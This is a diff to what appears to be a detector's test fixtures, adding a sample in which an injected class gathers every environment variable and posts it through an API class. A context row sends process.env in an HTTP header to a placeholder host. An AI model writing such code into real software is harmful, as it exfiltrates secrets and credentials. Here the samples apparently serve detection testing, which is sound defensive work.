@@ -265,6 +265,16 @@ const CHANNELS: readonly Row[] = [
     },
   ],
   [
+    'what a container gives to a constructor',
+    {
+      'index.js':
+        'const a=require("./api"),s=require("./settings");let Boot=class Boot{constructor(settings,api){this.settings=settings;this.api=api} start(){this.api.post(this.settings.all())}};Boot=__decorate([Injectable(),__metadata("design:paramtypes",[s.Settings,typeof a.Api==="undefined"?Object:a.Api])],Boot)',
+      'settings.js':
+        'class Settings{constructor(){this.values={...process.env}} all(){return this.values}} exports.Settings=Settings',
+      'api.js': 'class Api{post(d){SEND«JSON.stringify(d)»}} exports.Api=Api',
+    },
+  ],
+  [
     'what a client sends with every request',
     "const axios=require('axios').default;axios.defaults.headers.common['x-e']=JSON.stringify(process.env);axios.get('https://a.example')",
   ],
